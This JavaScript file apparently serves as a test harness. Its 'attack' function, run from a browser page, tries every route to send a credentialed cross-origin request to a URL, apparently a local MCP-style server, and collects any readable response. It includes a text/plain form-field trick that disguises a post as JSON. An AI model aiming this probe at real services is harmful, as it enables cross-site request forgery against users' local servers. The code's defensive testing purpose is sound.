/**
 * Runs in a browser's page, which this file is not part of: every way in which a page can send something, in turn.
 * Gives back whatever could be read of an answer.
 */
// oxlint-disable-next-line no-unused-vars -- called by the page
async function attack({ url, body }) {
  const read = [];
  const tryFetch = async (init) => {
    try {
      const response = await fetch(url, { method: "POST", body, credentials: "include", ...init });
      const text = await response.text();
      if (response.type !== "opaque" || text !== "") read.push(`${response.status} ${text}`);
    } catch {
      // blocked by the browser: nothing was read
    }
  };
  const types = [
    "text/plain",
    "text/plain;charset=utf-8",
    "text/plain; x=application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=application/json",
    "application/json",
    "application/json; charset=utf-8",
  ];
  for (const type of types) {
    for (const mode of ["no-cors", "cors"]) {
      await tryFetch({ mode, headers: { "content-type": type } });
      await tryFetch({ mode, headers: { "content-type": type }, keepalive: true });
    }
  }
  for (const mode of ["no-cors", "cors", "same-origin"]) {
    await tryFetch({ mode });
    await tryFetch({ mode, body: new Blob([body]) });
    await tryFetch({ mode, body: new Blob([body], { type: "application/json" }) });
    await tryFetch({ mode, headers: { authorization: "Bearer guess", "content-type": "application/json" } });
    await tryFetch({ mode, headers: { "mcp-method": "tools/call", "content-type": "text/plain" } });
    await tryFetch({ mode, method: "GET", body: null });
    await tryFetch({ mode, method: "DELETE", body: null });
  }
  navigator.sendBeacon(url, body);
  navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
  navigator.sendBeacon(url, new Blob([body], { type: "application/json" }));

  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const frame = document.createElement("iframe");
    frame.name = `frame-${enctype}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: url, enctype, target: frame.name });
    const field = document.createElement("input");
    // As text/plain this becomes `<name>=<value>`, which can be made to be JSON.
    field.name = body.slice(0, -1) + ',"x":"';
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
    form.submit();
    await loaded;
    try {
      read.push(`form: ${frame.contentDocument?.body.textContent ?? "null"}`.replace(/^form: (null)?$/, ""));
    } catch {
      // of another origin: nothing was read
    }
  }
  for (const tag of ["img", "script", "iframe", "video"]) {
    const element = document.createElement(tag);
    const ended = new Promise((resolve) => {
      element.addEventListener("load", resolve, { once: true });
      element.addEventListener("error", resolve, { once: true });
    });
    element.src = url;
    document.body.append(element);
    await Promise.race([ended, new Promise((resolve) => setTimeout(resolve, 2_000))]);
  }
  const stream = new EventSource(url);
  stream.addEventListener("message", ({ data }) => read.push(String(data)));
  await new Promise((resolve) => stream.addEventListener("error", resolve, { once: true }));
  stream.close();
  const socket = new WebSocket(url.replace("http:", "ws:"));
  socket.addEventListener("open", () => read.push("a web socket opened"));
  await new Promise((resolve) => socket.addEventListener("close", resolve, { once: true }));
  return read.filter((entry) => entry !== "");
}
